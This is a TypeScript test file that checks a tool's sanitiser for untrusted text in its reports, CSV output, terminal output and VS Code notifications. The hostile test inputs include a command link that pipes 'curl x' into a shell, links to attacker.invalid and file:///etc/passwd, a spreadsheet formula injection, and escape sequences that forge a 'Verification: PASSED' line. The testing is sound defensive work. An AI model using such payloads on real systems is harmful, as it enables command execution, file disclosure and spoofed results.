// Text from run files is data (issue 18 item 7): hostile labels, hostnames, errors and CPU/GPU
// names cannot forge report lines, become HTML or live links, formulas in a spreadsheet, or
// escape sequences on a terminal. Properties are checked, not exact renderings.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { csvText, markdownText, notificationDetail, notificationText, oneLine, terminalText } from '../../contract/untrustedText';
import { formatBenchTable, formatCompareTable, formatReport } from '../../src/core/report';
import { controlIn, hostileRuns } from '../helpers/hostileRuns';

/** No raw control character but newline (ESC, CSI 0x9b, CR, BEL, bidi overrides). */
function assertNoControls(text: string, where: string): void {
  const bad = controlIn(text);
  assert.equal(bad, null, `${where}: control ${bad} in output`);
}

test('the sanitiser keeps text readable and makes every control visible', () => {
  assert.equal(oneLine('a\nb\tc\u001b[2J'), 'a b c\\u001b[2J');
  assert.equal(terminalText('line 1\nline 2\u009b2K\u202e'), 'line 1\nline 2\\u009b2K\\u202e');
  assert.equal(markdownText('MODE_30W_ALL <b>[x](y)</b> *z* _w_'), 'MODE_30W_ALL \\<b\\>\\[x\\](y)\\</b\\> \\*z\\* \\_w\\_');
  assert.equal(csvText('=HYPERLINK("u","x")'), `"'=HYPERLINK(""u"",""x"")"`);
  assert.equal(csvText('-1.5'), '-1.5');
  assert.equal(csvText('plain'), 'plain');
});

test('report --format md: no forged lines, no HTML, no live links, no controls', () => {
  const md = formatReport(hostileRuns(), 'md');
  assertNoControls(md, 'md report');
  const lines = md.split('\n');
  // The only Verification lines are real ones (none here) and no heading was forged.
  assert.deepEqual(lines.filter((l) => /^(- )?#*\s*Verification:/.test(l)), []);
  assert.equal(lines.filter((l) => l.startsWith('## ')).length, 3, 'two run sections and the comparison, nothing more');
  assert.doesNotMatch(md, /(?<!\\)<(img|script)/i, 'no raw HTML');
  assert.doesNotMatch(md, /(?<!\\)\[click me(?<!\\)\]\(/, 'no live Markdown link');
});

test('compare (text and md), the bench table and CSV carry no controls and no formulas', () => {
  const runs = hostileRuns();
  const text = formatCompareTable(runs, 0, 'text').split('\n');
  assert.equal(text.filter((l) => /^\S/.test(l) && !/^(Run|-|Ratio|Different)/.test(l)).length, 2, `one line per run:\n${text.join('\n')}`);
  for (const [where, text] of [
    ['compare text', formatCompareTable(runs, 0, 'text')],
    ['compare md', formatCompareTable(runs, 0, 'md')],
    ['csv', formatReport(runs, 'csv')],
  ] as const) {
    assertNoControls(text, where);
  }
  // Every row of the Markdown comparison has as many cells as its header: no cell split a row.
  const md = formatCompareTable(runs, 0, 'md').split('\n').filter((l) => l.startsWith('|'));
  const count = (l: string) => l.replace(/\\\|/g, '').split('|').length;
  for (const l of md) assert.equal(count(l), count(md[0]!), l);
  const csv = formatReport(runs, 'csv').trim().split('\n');
  assert.equal(csv.length, 3, 'a header and one line per run: no field broke a line');
  assert.ok(!csv.some((l) => /(^|,)=HYPERLINK/.test(l)), 'no cell starts a formula');
  // The terminal table: its text is made safe at the CLI's output (bin.ts); the table keeps one
  // header line per run.
  assert.equal(formatBenchTable(runs[0]!).split('\n')[0]!.includes('\n'), false);
});

/** The pattern VS Code's notifications (and progress notifications) turn into links (parseLinkedText
 * in the workbench; a `command:` one runs the command when clicked). */
const VSCODE_NOTIFICATION_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;

test('notification text: one line, no controls, no link VS Code would make', () => {
  const hostile = [
    'run failed [Fix it](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D)',
    '[docs](https://attacker.invalid "title") and [x] (file:///etc/passwd) and [y]\n(command:z)',
    'bad\r\u009b2K\u202eVerification: PASSED\u001b]8;;https://a.invalid\u0007',
  ];
  for (const text of hostile) {
    for (const safe of [notificationText(text), notificationDetail(text)]) {
      assert.equal(safe.match(VSCODE_NOTIFICATION_LINK), null, safe);
      assertNoControls(safe, 'notification');
    }
    assert.ok(!notificationText(text).includes('\n'), 'one line');
  }
  // Readable: only the link's joint changes.
  assert.equal(notificationText('see [docs](https://x.invalid)'), 'see [docs] (https://x.invalid)');
  assert.equal(notificationDetail('a\nb'), 'a\nb');
});

test('every notification and progress message of the extension goes through the sanitiser (src/vscode/notify.ts)', () => {
  const root = path.resolve(__dirname, '../../src');
  const offenders: string[] = [];
  const walk = (dir: string) => {
    for (const e of readdirSync(dir, { withFileTypes: true })) {
      const full = path.join(dir, e.name);
      if (e.isDirectory()) walk(full);
      else if (e.name.endsWith('.ts') && path.relative(root, full) !== path.join('vscode', 'notify.ts')) {
        readFileSync(full, 'utf8').split('\n').forEach((line, i) => {
          if (/\bshow(Error|Warning|Information)Message\b|\.report\(\s*\{\s*message/.test(line)) offenders.push(`${path.relative(root, full)}:${i + 1}: ${line.trim()}`);
        });
      }
    }
  };
  walk(root);
  assert.deepEqual(offenders, [], 'use showError/showWarning/showInfo/askModal/progressReporter from src/vscode/notify.ts');
});
